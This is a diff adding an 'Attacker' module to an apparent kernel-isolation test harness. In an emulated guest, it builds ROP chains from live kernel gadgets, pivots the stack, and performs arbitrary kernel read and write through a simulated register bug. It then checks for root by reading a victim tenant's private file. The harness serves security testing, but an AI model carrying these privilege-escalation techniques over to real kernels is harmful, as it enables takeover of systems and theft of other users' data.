@@ -1,0 +1,236 @@
+"""The attacker: a guest process with the words an exploit is written in.
+
+Why it exists: an exploit should read like the program it would be: prepare memory, trigger the bug, use what was
+gained. Each method that makes a call is a generator (`yield from`).
+
+Rules of this file:
+- `call` and `must` are ordinary calls; `attack` makes one that is isolated, and in which the bug happens.
+- Payload bytes come into the attacker's memory by its own calls.
+"""
+
+from collections.abc import Callable
+from dataclasses import dataclass
+from typing import TYPE_CHECKING
+
+from thinbox.address import page_start
+from thinbox.attacks.bug import Bug, wrong_registers
+from thinbox.attacks.exploit import ExploitFailedError
+from thinbox.attacks.payload import POP_RBX_RBP, POP_RSP, RETURN, Chain, LiveText
+from thinbox.attacks.stage import ATTACKER_AREA, DONE, GO, PRIVATE_FILE, SECRET_BYTES
+from thinbox.audit.case import Case, Steps
+from thinbox.audit.process import AREA_BYTES, Argument, Process
+from thinbox.guest.conversation import Syscall
+from thinbox.machine import cpu as registers
+
+if TYPE_CHECKING:
+    from thinbox.attacks.arena import Arena
+    from thinbox.attacks.leak import Leak
+    from thinbox.attacks.stage import Victim
+
+_NO_CASE = Case("", "", True, lambda _process: iter(()))  # type: ignore[arg-type, return-value]
+Wanted = Callable[[int], bool] | None
+_END_WORDS = 3
+"""What `Attacker.end_chain` appends."""
+_PROT_RW, _PROT_RWX, _PRIVATE_ANON_FIXED = 3, 7, 0x32
+O_RDWR, _O_CREAT_RDWR = 2, 0o102
+
+
+RUN_BY_READ = (
+    "do_syscall_64",
+    "x64_sys_call",
+    "syscall_enter_from_user_mode",
+    "ksys_read",
+    "__fdget_pos",
+    "vfs_read",
+    "rw_verify_area",
+    "security_file_permission",
+    "pipe_read",
+    "mutex_lock",
+    "mutex_unlock",
+    "copy_page_to_iter",
+    "_copy_to_iter",
+    "touch_atime",
+)
+"""What a read of a pipe has run when vfs_read returns; of a kernel that lacks one, the others are taken."""
+
+
+@dataclass(frozen=True, slots=True)
+class Frame:
+    """The attacker's kernel stack where a call's handler begins: `slot` holds the address it returns to, and
+    `do_syscall_64` needs RBX and RBP back."""
+
+    slot: int
+    rbx: int
+    rbp: int
+
+
+class Attacker(Process):
+    """A process of uid 1000 that tries an exploit."""
+
+    def __init__(self, arena: "Arena") -> None:
+        super().__init__(arena, _NO_CASE, ATTACKER_AREA // AREA_BYTES)  # type: ignore[arg-type]
+        self._arena = arena
+        self.task = arena.attacker_task
+
+    @property
+    def text(self) -> LiveText:
+        """The kernel's live text, to build payloads from."""
+        return self._arena.text
+
+    @property
+    def leak(self) -> "Leak":
+        """Addresses the attacker is presumed to know."""
+        return self._arena.leak
+
+    @property
+    def victim(self) -> "Victim":
+        """The other tenant."""
+        return self._arena.victim
+
+    @property
+    def console(self) -> bytes:
+        """What the kernel printed during this try."""
+        return bytes(self._arena.machine.console)
+
+    def on_death(self, reached: "Callable[[], bool]") -> None:
+        """The attack may end its own process: `reached` says then whether its goal was reached."""
+        self._arena.on_death = reached
+
+    @property
+    def cr4(self) -> int:
+        """What CR4 holds."""
+        return self._arena.machine.cpu.cr4
+
+    def give_cpu_smep(self) -> None:
+        """Make the CPU one with SMEP, as the kernel would have at boot (arch/x86/kernel/cpu/common.c, setup_smep)."""
+        from thinbox.attacks.smep import set_smep
+
+        set_smep(self._arena.machine, self.leak, self.text)
+
+    # -- attacking --------------------------------------------------------------------------------
+    def attack(self, name: str, *args: Argument, bug: Bug | None = None) -> Steps:
+        """Make a call of the attack; its value is the result, negative errno included."""
+        self._arena.begin_attack(name, bug)
+        result = yield Syscall(name, args)
+        self._arena.end_attack(name)
+        return result
+
+    def use(self, chain: Chain) -> Chain:
+        """Note the names of a chain's parts, for the record."""
+        self._arena.names.update(chain.names)
+        return chain
+
+    def name(self, vaddr: int, name: str) -> int:
+        """Note the name of one address of the payload, for the record."""
+        self._arena.names[vaddr] = name
+        return vaddr
+
+    def learn_frame(self) -> Steps:
+        """Find out where the kernel stack of this process is: it is the same in each of its calls."""
+        found: list[Frame] = []
+
+        def look() -> None:
+            regs = self._arena.machine.cpu.regs
+            found.append(Frame(regs[registers.RSP], regs[registers.RBX], regs[registers.RBP]))
+
+        self._arena.watch(self.text.function("__x64_sys_getpid"), look)
+        yield from self.must("getpid")
+        return found[0]
+
+    def end_chain(self, chain: Chain, frame: Frame, wanted: Wanted = None) -> Chain:
+        """Let a chain end as the handler would have: in `do_syscall_64`, its registers as it left them."""
+        return chain.add("pop rbx; pop rbp; ret", self.text.gadget(POP_RBX_RBP, wanted), frame.rbx, frame.rbp)
+
+    def fill_stack(self, chain: Chain, frame: Frame, slots: int, wanted: Wanted = None) -> bytes:
+        """Return the chain, `ret` behind it and registers restored, `slots` words long: what follows it on the stack
+        is the handler's own return address. `wanted` chooses among the gadgets for that."""
+        missing = slots - len(chain.words) - _END_WORDS
+        if missing < 0:
+            raise ExploitFailedError(f"the chain is {-missing} words too long for the stack of this kernel's read")
+        for _ in range(missing):
+            chain.add("ret", self.text.gadget(RETURN, wanted))
+        return self.use(self.end_chain(chain, frame, wanted)).data
+
+    def leave_by_pivot(self, chain: Chain, frame: Frame) -> Chain:
+        """End a chain that lies elsewhere: back to the handler's own return address."""
+        self.end_chain(chain, frame)
+        return self.use(chain.add("pop rsp; ret", self.text.gadget(POP_RSP), frame.slot))
+
+    def overflow_slots(self, function: str, frame: Frame) -> Steps:
+        """Return how many words lie between `function`'s return address, in a read of a pipe, and the handler's."""
+        found: list[int] = []
+        self._arena.watch(
+            self.text.function(function), lambda: found.append(self._arena.machine.cpu.regs[registers.RSP])
+        )
+        handle = yield from self.filled_pipe(b"x")
+        yield from self.must("read", handle[0], self.buffer(8), 1)
+        return (frame.slot - found[0]) // 8
+
+    # -- memory and pipes -----------------------------------------------------------------------------
+    def own_file(self) -> Steps:
+        """Make a file in the attacker's folder; its value is the handle."""
+        return (yield from self.must("open", "plain", _O_CREAT_RDWR, 0o600))
+
+    def filled_pipe(self, data: bytes) -> Steps:
+        """Make a pipe with `data` in it; its value is (read end, write end)."""
+        place = self.buffer(8)
+        yield from self.must("pipe", place)
+        ends = self.read_int(place), self.read_int(place + 4)
+        yield from self.must("write", ends[1], self.buffer(data), len(data))
+        return ends
+
+    def private_page(self, vaddr: int, data: bytes, *, executable: bool = False) -> Steps:
+        """Map pages of its own at a chosen address, and put `data` there by a read."""
+        size = (len(data) + 4095) & ~4095
+        protection = _PROT_RWX if executable else _PROT_RW
+        yield from self.must("mmap", vaddr, size, protection, _PRIVATE_ANON_FIXED, -1, 0)
+        ends = yield from self.filled_pipe(data)
+        yield from self.must("read", ends[0], vaddr, len(data))
+        return vaddr
+
+    def is_run_by_read(self, vaddr: int) -> bool:
+        """Whether a read of a pipe has run code in the page of `vaddr`, and of what follows it."""
+        pages = self.text.pages_of(RUN_BY_READ) | {page_start(self.copy_routine)}
+        return page_start(vaddr) in pages and page_start(vaddr + 3) in pages
+
+    @property
+    def copy_routine(self) -> int:
+        """The routine that copies to and from users, as the running kernel calls it (alternatives patch the call)."""
+        for _vaddr, _size, mnemonic, operands in self.text.decode(self.text.function("_copy_to_user")):
+            if mnemonic == "call" and operands.startswith("0x"):
+                return int(operands, 16)
+        return self.text.function("copy_user_generic_unrolled")
+
+    def write_kernel(self, vaddr: int, data: bytes) -> Steps:
+        """Arbitrary write: a read of a pipe, whose copy to the user gets a kernel address as its destination."""
+        ends = yield from self.filled_pipe(data)
+        bug = wrong_registers(self.copy_routine, {"rdi": vaddr})
+        return (yield from self.attack("read", ends[0], self.buffer(len(data)), len(data), bug=bug))
+
+    def read_kernel(self, vaddr: int, size: int) -> Steps:
+        """Arbitrary read: a write to a pipe, whose copy from the user gets a kernel address as its source."""
+        ends = yield from self.filled_pipe(b"x")
+        bug = wrong_registers(self.copy_routine, {"rsi": vaddr})
+        yield from self.attack("write", ends[1], self.buffer(size), size, bug=bug)
+        place = self.buffer(size + 1)
+        yield from self.call("read", ends[0], place, size + 1)
+        return self.read(place + 1, size)
+
+    # -- goals ----------------------------------------------------------------------------------------
+    def is_root(self) -> Steps:
+        """Whether the guest says so: getuid returns 0, and the victim's private file can be read."""
+        uid = yield from self.call("getuid")
+        if uid != 0:
+            return False
+        handle = yield from self.call("open", PRIVATE_FILE, O_RDWR, 0)
+        if handle < 0:
+            return False
+        place = self.buffer(SECRET_BYTES)
+        yield from self.call("read", handle, place, SECRET_BYTES)
+        return self.read(place, SECRET_BYTES) == self.victim.file_secret
+
+    def ask_victim(self) -> Steps:
+        """Let the victim look at what is its own: its memory, its file, its pipe."""
+        yield from self.must("write", GO[1], b"g", 1)
+        yield from self.must("read", DONE[0], self.buffer(8), 1)
+        return self._arena.seen
